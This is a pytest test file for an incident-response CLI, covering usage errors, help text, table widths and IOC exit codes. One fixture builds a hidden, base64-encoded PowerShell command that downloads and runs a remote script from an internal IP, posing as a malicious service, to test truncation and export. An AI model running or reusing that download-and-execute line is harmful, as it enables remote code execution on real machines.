"""One grammar for every command: usage errors, aliases, choices, examples, tables, exit 4."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from irkit.errors import ExitCode

from .conftest import EVIDENCE, run_irkit

#: Every command whose --help must show real examples.
COMMANDS = (
    ("triage",),
    ("parse",),
    ("hash",),
    ("stack",),
    ("firstseen",),
    ("rules", "list"),
    ("rules", "lint"),
    ("collect",),
    ("verify",),
    ("crosscheck",),
)


def run_at(
    columns: int, *args: str, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    """The command line as a process on a terminal ``columns`` wide (COLUMNS)."""
    full = {**os.environ, "COLUMNS": str(columns), **(env or {})}
    full.pop("IRKIT_DEBUG", None)
    return subprocess.run(
        [sys.executable, "-m", "irkit", *args],
        capture_output=True,
        text=True,
        env=full,
        timeout=300,
        check=False,
    )


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("triage", str(EVIDENCE), "--bogus"), "No such option: --bogus"),
        (("triage",), "Missing argument"),
        (("bogus",), "No such command 'bogus'"),
        (("parse", "x", "--evtx-engine", "nope"), "'nope' is not one of 'evtx', 'python-evtx'"),
        (("stack", "c", "process", "--limit", "x"), "Invalid value for '--limit'"),
        (("rules", "list", "--bogus"), "No such option: --bogus"),
    ],
)
def test_usage_errors_are_one_line_on_stderr(args: tuple[str, ...], message: str) -> None:
    result = run_irkit(*args)
    assert result.returncode == ExitCode.USAGE
    assert result.stdout == ""
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("irkit: usage: ")
    assert message in lines[0]
    assert lines[0].endswith("--help)")  # (see irkit triage --help)
    assert "╭" not in result.stderr and "Traceback" not in result.stderr


def test_usage_error_names_the_command_for_help() -> None:
    result = run_irkit("rules", "list", "--bogus")
    assert "(see irkit rules list --help)" in result.stderr
    # Old spellings kept as hidden aliases are not suggested; real options are.
    assert "--out" not in run_irkit("triage", "x", "--bogus").stderr
    assert "Possible options: --case" in run_irkit("triage", "x", "--cas", "y").stderr


def test_help_and_no_arguments_still_print_the_help() -> None:
    result = run_irkit("triage", "--help")
    assert result.returncode == 0
    assert "Usage: irkit triage" in result.stdout
    bare = run_irkit()
    assert bare.returncode == ExitCode.USAGE  # as typer did: help, exit 2
    assert "triage" in bare.stdout and "irkit: usage" not in bare.stderr


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_every_help_has_examples(command: tuple[str, ...]) -> None:
    result = run_at(200, *command, "--help")
    assert result.returncode == 0, result.stderr
    assert "Examples:" in result.stdout
    examples = [
        line.strip()
        for line in result.stdout.split("Examples:")[1].splitlines()
        if f"irkit {' '.join(command)} " in line
    ]
    assert len(examples) >= 2, result.stdout


def test_help_shows_choices_and_no_duplicate_default() -> None:
    for command in ("triage", "parse"):
        text = run_at(200, command, "--help").stdout
        assert "<evtx|python-evtx>" in text
        assert "default: one per core" not in text
        assert "0: one per core" in text
    assert "default: one per core" not in run_at(200, "hash", "--help").stdout
    listing = run_at(200, "rules", "list", "--help").stdout
    assert "run summary" not in listing and "heuristics as a JSON list" in listing
    assert "run summary" not in run_at(200, "rules", "lint", "--help").stdout


def test_triage_takes_case_and_still_out(tmp_path: Path) -> None:
    for option in ("--case", "-c", "--out", "-o"):
        case = tmp_path / option.strip("-")
        result = run_irkit("triage", str(EVIDENCE), option, str(case), "--no-scan", "-q")
        assert result.returncode == ExitCode.OK, (option, result.stderr)
        assert (case / "timeline.csv").is_file()
    both = run_irkit(
        "triage", str(EVIDENCE), "--case", str(tmp_path / "a"), "--out", str(tmp_path / "b")
    )
    assert both.returncode == ExitCode.USAGE
    assert "name different folders" in both.stderr
    assert not (tmp_path / "a").exists() and not (tmp_path / "b").exists()


#: A service whose image path is a whole encoded PowerShell payload (~5,800 characters).
PAYLOAD = (
    "powershell.exe -nop -w hidden -enc "
    + base64.b64encode(
        ("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1'); " * 30).encode(
            "utf-16-le"
        )
    ).decode()
)


@pytest.fixture(scope="module")
def service_case(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A case of one ``osqueryi --json`` services file: one payload, one plain service."""
    root = tmp_path_factory.mktemp("services")
    evidence = root / "evidence"
    evidence.mkdir()
    rows = [
        {"name": "EvilSvc", "path": PAYLOAD, "start_type": "AUTO_START"},
        {"name": "Spooler", "path": r"C:\Windows\System32\spoolsv.exe", "start_type": "AUTO_START"},
    ]
    (evidence / "services.json").write_text(json.dumps(rows))
    case = root / "case"
    result = run_irkit("parse", str(evidence), "--case", str(case), "-q")
    assert result.returncode == 0, result.stderr
    return case


def _table_body(stdout: str) -> list[str]:
    lines = stdout.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("┡"))
    end = next(i for i, line in enumerate(lines) if line.startswith("└"))
    return lines[start + 1 : end]


@pytest.mark.parametrize(
    "args",
    [
        ("stack", "{case}", "service"),
        ("firstseen", "{case}", "service", "--baseline-until", "2000-01-01"),
    ],
)
def test_tables_fit_80_columns_and_exports_keep_full_values(
    service_case: Path, args: tuple[str, ...]
) -> None:
    argv = [a.format(case=service_case) for a in args]
    result = run_at(80, *argv)
    assert result.returncode == 0, result.stderr
    assert all(len(line) <= 80 for line in result.stdout.splitlines()), result.stdout
    body = _table_body(result.stdout)
    assert len(body) <= 2 * 2, result.stdout  # two rows, at most two lines each
    payload_row = [i for i, line in enumerate(body) if "evilsvc" in line]
    assert payload_row, result.stdout
    assert "…" in body[payload_row[0]] + body[payload_row[0] + 1]
    assert "not shown at this width: last seen (UTC)" in result.stdout
    rows = list(csv.DictReader(io.StringIO(run_at(80, *argv, "-f", "csv").stdout)))
    assert PAYLOAD in {row["path"] for row in rows}
    objects = [json.loads(line) for line in run_at(80, *argv, "-f", "jsonl").stdout.splitlines()]
    assert PAYLOAD in {obj["path"] for obj in objects}


def test_fit_table_drops_least_useful_columns_first() -> None:
    from rich.console import Console

    from irkit.cli.common import Column, fit_table

    columns = [
        Column("count", justify="right", min_width=5),
        Column("value", priority=1, min_width=20),
        Column("extra", priority=5, min_width=20),
    ]
    rows = [["1", "x" * 300, "y" * 300]]

    def render(width: int) -> list[str]:
        console = Console(file=io.StringIO(), width=width, color_system=None)
        console.print(fit_table(columns, rows, width=width))
        lines: list[str] = console.file.getvalue().splitlines()  # type: ignore[attr-defined]
        assert all(len(line) <= width for line in lines)
        return lines

    squeezed = render(60)  # everything fits at the minimum: the least useful is narrowed
    assert squeezed[3].count("y") == 19 and squeezed[3].count("x") == 24
    assert squeezed[3].count("…") == 2 and "not shown" not in "".join(squeezed)
    dropped = render(50)  # it does not: the least useful goes, named under the table
    assert "extra" not in dropped[1] and "y" not in dropped[3]
    assert dropped[3].count("x") == 37 and dropped[3].rstrip(" │").endswith("…")
    assert "not shown at this width: extra" in " ".join(dropped)
    wide = Console(file=io.StringIO(), width=200, color_system=None)
    wide.print(fit_table(columns, [["1", "short", "y" * 10]], width=200))
    assert "yyyyyyyyyy" in wide.file.getvalue()  # type: ignore[attr-defined]


def test_firstseen_takes_the_kind_like_stack(service_case: Path) -> None:
    case = str(service_case)
    positional = run_irkit(
        "firstseen", case, "service", "--baseline-until", "2000-01-01", "-f", "csv"
    )
    assert positional.returncode == 0, positional.stderr
    for old in ("--entity", "-e"):
        aliased = run_irkit(
            "firstseen", case, old, "service", "--baseline-until", "2000-01-01", "-f", "csv"
        )
        assert aliased.returncode == 0, aliased.stderr
        assert aliased.stdout == positional.stdout
    assert len(positional.stdout.splitlines()) == 3
    missing = run_irkit("firstseen", case, "--baseline-until", "2000-01-01")
    assert missing.returncode == ExitCode.USAGE
    assert "entity kind" in missing.stderr
    differ = run_irkit("firstseen", case, "task", "-e", "service", "--baseline-until", "2000-01-01")
    assert differ.returncode == ExitCode.USAGE


def test_output_dash_is_stdout_for_stack_and_firstseen(service_case: Path, tmp_path: Path) -> None:
    case = str(service_case)
    for args in (
        ("stack", case, "service"),
        ("firstseen", case, "service", "--baseline-until", "2000-01-01"),
    ):
        result = run_irkit(*args, "-f", "jsonl", "-o", "-", cwd=tmp_path)  # not a file '-'

        assert result.returncode == 0, result.stderr
        assert len(result.stdout.splitlines()) == 2
        assert not (tmp_path / "-").exists()
        table_to_file = run_irkit(*args, "-o", str(tmp_path / "t.txt"))
        assert table_to_file.returncode == ExitCode.USAGE
        assert "--format csv" in table_to_file.stderr


def test_version_says_whether_the_accelerator_is_used() -> None:
    from irkit.speedups import speedups

    result = run_irkit("--version")
    assert result.returncode == 0
    if speedups is not None:
        assert result.stdout.strip().endswith("(C accelerator in use)")
    else:
        assert "pure Python: the C accelerator is not built" in result.stdout
    pure = run_at(80, "--version", env={"IRKIT_PURE_PYTHON": "1"})
    assert pure.returncode == 0
    assert pure.stdout.strip().endswith("(pure Python: IRKIT_PURE_PYTHON is set)")


@pytest.mark.corpus
def test_hash_and_triage_exit_4_on_the_same_ioc_hit(corpus: Path, tmp_path: Path) -> None:
    """One rule: a file matching an --ioc list exits 4, whichever command found it."""
    tree = tmp_path / "tree"
    tree.mkdir()
    planted = tree / "dropper.bin"
    planted.write_bytes(b"planted sample for the exit-code rule\n")
    (tree / "clean.txt").write_text("nothing to see\n")
    iocs = tmp_path / "mine.txt"
    iocs.write_text(f"{hashlib.sha256(planted.read_bytes()).hexdigest()};Planted test sample\n")
    base = str(corpus / "signature-base" / "iocs" / "hash-iocs.txt")
    ioc_args = ("--ioc", base, "--ioc", str(iocs))
    hashed = run_irkit("hash", str(tree), "-o", str(tmp_path / "sums"), *ioc_args, "--json")
    # --out, the old spelling of --case: the code must differ only in the exit-code rule.
    triaged = run_irkit("triage", str(tree), "--out", str(tmp_path / "case"), *ioc_args, "--json")
    assert hashed.returncode == triaged.returncode == ExitCode.FINDINGS, triaged.stderr
    assert len(json.loads(hashed.stdout)["findings"]) == 1
    assert len(json.loads(triaged.stdout)["hash"]["findings"]) == 1
    clean = run_irkit("triage", str(tree), "--out", str(tmp_path / "c2"), "--ioc", base, "-q")
    assert clean.returncode == ExitCode.OK, clean.stderr
